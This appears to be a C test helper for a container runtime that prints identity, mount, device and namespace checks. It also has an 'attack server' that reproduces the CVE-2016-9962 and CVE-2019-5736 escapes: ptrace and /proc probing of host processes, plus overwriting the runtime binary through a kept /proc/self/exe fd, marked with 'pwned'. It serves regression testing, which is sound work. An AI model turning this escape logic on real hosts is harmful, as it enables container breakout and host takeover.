/* payload: a static multi-tool run inside test containers. Each argument is a
 * check; its results are printed as `key=value` lines so tests (and the
 * conformance harness) can compare nsrun with runc line by line.
 *
 *   id        uid=, gid=, groups=
 *   cwd       cwd=
 *   env       env=<VAR=value> per variable, sorted
 *   fds       fd=<n> per open fd (minus the one used to list them)
 *   uts       hostname=, domainname=
 *   ns        ns.<type>=<inode> per /proc/self/ns entry
 *   mounts    mount=<mount point> <fstype> <mount options> per mountinfo line
 *   devs      dev=<name> <c|b|p|l|d|-> <major>:<minor> <mode> per /dev entry
 *   umask     umask=
 *   status    nnp=, capeff= from /proc/self/status
 *   pid       pid=, ppid=
 *   tty       tty=<ttyname of fd 0 or none>
 *   write:P   write.P=ok|<errno text>   (creates then removes P)
 *   cat:P     the file's content
 *   sys:N     sys.N=<return value or -errno> of raw syscall N (0 or 0x.. form),
 *             all six arguments 0 (no glibc wrapper rewrites the errno)
 *   sleep:N   sleeps N seconds
 *   exit:N    exits with N
 *   serve:DIR attack server (CVE tests): runs each command written to DIR/cmd,
 *             answers in DIR/out, until `quit`. Commands:
 *             probe PID  probe.<way>=ok|<errno> for each way into PID
 *                        (ptrace, /proc/PID/{mem,environ,exe,fd/N,cwd,root})
 *             grab [PID] keep an O_PATH fd of PID's exe (no PID: of a
 *                        process run as `/proc/self/exe`), try to append
 *                        to it now
 *             write      try to append through the kept fd again (run after
 *                        the grabbed process exited: no ETXTBSY any more)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <sys/sysmacros.h>
#include <sys/utsname.h>
#include <unistd.h>

extern char **environ;

static int cmp(const void *a, const void *b) { return strcmp(*(char *const *)a, *(char *const *)b); }

static void id(void) {
    gid_t g[256];
    int n = getgroups(256, g);
    printf("uid=%u\ngid=%u\ngroups=", getuid(), getgid());
    for (int i = 0; i < n; i++) printf(i ? ",%u" : "%u", g[i]);
    printf("\n");
}

static void env(void) {
    int n = 0;
    while (environ[n]) n++;
    char **v = malloc(sizeof(char *) * (n + 1));
    memcpy(v, environ, sizeof(char *) * n);
    qsort(v, n, sizeof(char *), cmp);
    for (int i = 0; i < n; i++) printf("env=%s\n", v[i]);
    free(v);
}

/* Sorted names of a directory, without . and .. */
static int list(const char *dir, char ***out, int *fdused) {
    DIR *d = opendir(dir);
    if (!d) return -1;
    if (fdused) *fdused = dirfd(d);
    int n = 0, cap = 64;
    char **v = malloc(sizeof(char *) * cap);
    struct dirent *e;
    while ((e = readdir(d))) {
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..")) continue;
        if (n == cap) v = realloc(v, sizeof(char *) * (cap *= 2));
        v[n++] = strdup(e->d_name);
    }
    closedir(d);
    qsort(v, n, sizeof(char *), cmp);
    *out = v;
    return n;
}

static void fds(void) {
    char **v;
    int self = -1;
    int n = list("/proc/self/fd", &v, &self);
    for (int i = 0; i < n; i++)
        if (atoi(v[i]) != self) printf("fd=%s\n", v[i]);
}

static void ns(void) {
    char **v;
    int n = list("/proc/self/ns", &v, NULL);
    for (int i = 0; i < n; i++) {
        char p[128];
        struct stat st;
        snprintf(p, sizeof p, "/proc/self/ns/%s", v[i]);
        if (stat(p, &st) == 0) printf("ns.%s=%lu\n", v[i], (unsigned long)st.st_ino);
    }
}

static void mounts(void) {
    FILE *f = fopen("/proc/self/mountinfo", "r");
    char line[4096];
    while (f && fgets(line, sizeof line, f)) {
        /* id parent maj:min root mountpoint opts [optional...] - fstype source superopts */
        char *tok[64];
        int n = 0;
        for (char *s = strtok(line, " \n"); s && n < 64; s = strtok(NULL, " \n")) tok[n++] = s;
        int dash = 6;
        while (dash < n && strcmp(tok[dash], "-")) dash++;
        if (dash + 1 < n) printf("mount=%s %s %s\n", tok[4], tok[dash + 1], tok[5]);
    }
    if (f) fclose(f);
}

static void devs(void) {
    char **v;
    int n = list("/dev", &v, NULL);
    for (int i = 0; i < n; i++) {
        char p[300];
        struct stat st;
        snprintf(p, sizeof p, "/dev/%s", v[i]);
        if (lstat(p, &st)) continue;
        char t = S_ISCHR(st.st_mode) ? 'c' : S_ISBLK(st.st_mode) ? 'b' : S_ISFIFO(st.st_mode) ? 'p'
               : S_ISLNK(st.st_mode) ? 'l' : S_ISDIR(st.st_mode) ? 'd' : '-';
        printf("dev=%s %c %u:%u %04o\n", v[i], t, major(st.st_rdev), minor(st.st_rdev), st.st_mode & 07777);
    }
}

static void status(void) {
    FILE *f = fopen("/proc/self/status", "r");
    char line[512];
    while (f && fgets(line, sizeof line, f)) {
        if (!strncmp(line, "NoNewPrivs:", 11)) printf("nnp=%d\n", atoi(line + 11));
        if (!strncmp(line, "CapEff:", 7)) printf("capeff=%s", line + 8);
    }
    if (f) fclose(f);
}

/* The signal dispositions and mask the process was started with. */
static void signals(void) {
    FILE *f = fopen("/proc/self/status", "r");
    char line[512];
    while (f && fgets(line, sizeof line, f)) {
        if (!strncmp(line, "SigIgn:", 7)) printf("sigign=%s", line + 8);
        if (!strncmp(line, "SigBlk:", 7)) printf("sigblk=%s", line + 8);
    }
    if (f) fclose(f);
}

static void catf(const char *p) {
    FILE *f = fopen(p, "r");
    if (!f) {
        printf("cat.%s=%s\n", p, strerror(errno));
        return;
    }
    char buf[4096];
    size_t n;
    while ((n = fread(buf, 1, sizeof buf, f)) > 0) fwrite(buf, 1, n, stdout);
    fclose(f);
}

/* --- attack server (CVE-2016-9962, CVE-2019-5736) --- */

static const char *res(int ok) { return ok ? "ok" : strerror(errno); }

static void msleep(int ms) {
    struct timespec t = {ms / 1000, (ms % 1000) * 1000000L};
    nanosleep(&t, NULL);
}

/* Every way a process in the container could reach into PID. */
static void probe(FILE *o, int pid) {
    char p[64], buf[256];
    int ok = ptrace(PTRACE_ATTACH, pid, 0, 0) == 0;
    fprintf(o, "probe.attach=%s\n", res(ok));
    if (ok) waitpid(pid, NULL, __WALL), ptrace(PTRACE_DETACH, pid, 0, 0);
    ok = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
    fprintf(o, "probe.seize=%s\n", res(ok));
    if (ok) ptrace(PTRACE_INTERRUPT, pid, 0, 0), waitpid(pid, NULL, __WALL), ptrace(PTRACE_DETACH, pid, 0, 0);
    struct iovec l = {buf, 8}, r = {(void *)0x400000, 8};
    ok = process_vm_readv(pid, &l, 1, &r, 1, 0) >= 0 || errno == EFAULT;
    fprintf(o, "probe.vmread=%s\n", res(ok));
    const char *files[] = {"mem", "environ"};
    for (int i = 0; i < 2; i++) {
        snprintf(p, sizeof p, "/proc/%d/%s", pid, files[i]);
        int fd = open(p, i ? O_RDONLY : O_RDWR);
        fprintf(o, "probe.%s=%s\n", files[i], res(fd >= 0));
        if (fd >= 0) close(fd);
    }
    const char *links[] = {"exe", "cwd", "root"};
    for (int i = 0; i < 3; i++) {
        snprintf(p, sizeof p, "/proc/%d/%s", pid, links[i]);
        fprintf(o, "probe.%s=%s\n", links[i], res(readlink(p, buf, sizeof buf) >= 0));
    }
    snprintf(p, sizeof p, "/proc/%d/exe", pid);
    int fd = open(p, O_WRONLY | O_APPEND);
    fprintf(o, "probe.exewrite=%s\n", res(fd >= 0));
    if (fd >= 0) close(fd);
    /* The fd directory itself is root's (as we are); its links are the way in. */
    snprintf(p, sizeof p, "/proc/%d/fd", pid);
    char **v;
    int n = list(p, &v, NULL), got = 0, err = EACCES;
    for (int i = 0; i < n; i++) {
        char q[128];
        snprintf(q, sizeof q, "%s/%s", p, v[i]);
        if (readlink(q, buf, sizeof buf) >= 0) got++;
        else err = errno;
    }
    errno = n < 0 ? errno : err;
    fprintf(o, "probe.fdlink=%s\n", res(n > 0 && got == n));
}

static int grabbed = -1;

/* Append a marker through the kept exe fd, reopened for writing. */
static void append(FILE *o, const char *when) {
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", grabbed);
    int fd = open(p, O_WRONLY | O_APPEND);
    /* Later, wait out other runs of the same file, as the real exploit does. */
    for (int i = 0; fd < 0 && errno == ETXTBSY && !strcmp(when, "later") && i < 500; i++)
        msleep(10), fd = open(p, O_WRONLY | O_APPEND);
    fprintf(o, "%s.open=%s\n", when, res(fd >= 0));
    if (fd >= 0) {
        fprintf(o, "%s.write=%s\n", when, res(write(fd, "pwned\n", 6) == 6));
        close(fd);
    }
}

/* Keep an O_PATH fd of PID's exe, or (pid 0) of a process run as /proc/self/exe. */
static void grab(FILE *o, int pid) {
    if (grabbed >= 0) close(grabbed), grabbed = -1;
    if (pid > 0) {
        char p[64];
        snprintf(p, sizeof p, "/proc/%d/exe", pid);
        grabbed = open(p, O_PATH);
        fprintf(o, "grab.pid=%d\ngrab.opath=%s\n", pid, res(grabbed >= 0));
    }
    for (int tries = 0; pid <= 0 && tries < 1000 && grabbed < 0; tries++) {
        char **v;
        int n = list("/proc", &v, NULL);
        for (int i = 0; i < n && grabbed < 0; i++) {
            char p[64], cmd[64] = "";
            snprintf(p, sizeof p, "/proc/%s/cmdline", v[i]);
            int fd = open(p, O_RDONLY);
            if (fd < 0) continue;
            ssize_t k = read(fd, cmd, sizeof cmd - 1);
            close(fd);
            if (k <= 0 || strcmp(cmd, "/proc/self/exe")) continue;
            snprintf(p, sizeof p, "/proc/%s/exe", v[i]);
            grabbed = open(p, O_PATH);
            fprintf(o, "grab.pid=%s\ngrab.opath=%s\n", v[i], res(grabbed >= 0));
        }
        if (grabbed < 0) msleep(10);
    }
    if (grabbed >= 0) append(o, "now");
    else if (pid <= 0) fprintf(o, "grab.pid=none\n");
}

static void serve(const char *dir) {
    char cmdp[256], outp[256], tmpp[256];
    snprintf(cmdp, sizeof cmdp, "%s/cmd", dir);
    snprintf(outp, sizeof outp, "%s/out", dir);
    snprintf(tmpp, sizeof tmpp, "%s/out.tmp", dir);
    for (;;) {
        char cmd[128] = "";
        FILE *c = fopen(cmdp, "r");
        if (!c) {
            msleep(10);
            continue;
        }
        if (!fgets(cmd, sizeof cmd, c)) cmd[0] = 0;
        fclose(c);
        unlink(cmdp);
        if (!strncmp(cmd, "quit", 4)) return;
        FILE *o = fopen(tmpp, "w");
        if (!strncmp(cmd, "probe ", 6)) probe(o, atoi(cmd + 6));
        else if (!strncmp(cmd, "grab", 4)) grab(o, atoi(cmd + 4));
        else if (!strncmp(cmd, "write", 5)) append(o, "later");
        else fprintf(o, "unknown=%s", cmd);
        fclose(o);
        rename(tmpp, outp);
    }
}

int main(int argc, char **argv) {
    for (int i = 1; i < argc; i++) {
        const char *a = argv[i];
        if (!strcmp(a, "id")) id();
        else if (!strcmp(a, "cwd")) {
            char b[4096];
            printf("cwd=%s\n", getcwd(b, sizeof b) ? b : strerror(errno));
        } else if (!strcmp(a, "env")) env();
        else if (!strcmp(a, "fds")) fds();
        else if (!strcmp(a, "uts")) {
            struct utsname u;
            uname(&u);
            printf("hostname=%s\ndomainname=%s\n", u.nodename, u.domainname);
        } else if (!strcmp(a, "ns")) ns();
        else if (!strcmp(a, "mounts")) mounts();
        else if (!strcmp(a, "devs")) devs();
        else if (!strcmp(a, "umask")) {
            mode_t m = umask(0);
            umask(m);
            printf("umask=%04o\n", m);
        } else if (!strcmp(a, "status")) status();
        else if (!strcmp(a, "signals")) signals();
        else if (!strcmp(a, "pid")) printf("pid=%d\nppid=%d\n", getpid(), getppid());
        else if (!strcmp(a, "tty")) printf("tty=%s\n", isatty(0) ? ttyname(0) : "none");
        else if (!strncmp(a, "write:", 6)) {
            int fd = open(a + 6, O_WRONLY | O_CREAT | O_EXCL, 0600);
            printf("write.%s=%s\n", a + 6, fd >= 0 ? "ok" : strerror(errno));
            if (fd >= 0) close(fd), unlink(a + 6);
        } else if (!strncmp(a, "cat:", 4)) catf(a + 4);
        else if (!strncmp(a, "sys:", 4)) {
            long r = syscall(strtol(a + 4, NULL, 0), 0, 0, 0, 0, 0, 0);
            printf("sys.%s=%ld\n", a + 4, r < 0 ? -(long)errno : r);
        }
        else if (!strncmp(a, "sleep:", 6)) {
            fflush(stdout);
            sleep(atoi(a + 6));
        } else if (!strncmp(a, "exit:", 5)) {
            fflush(stdout);
            return atoi(a + 5);
        } else if (!strncmp(a, "serve:", 6)) serve(a + 6);
        else {
            fprintf(stderr, "payload: unknown check %s\n", a);
            return 99;
        }
    }
    fflush(stdout);
    return 0;
}
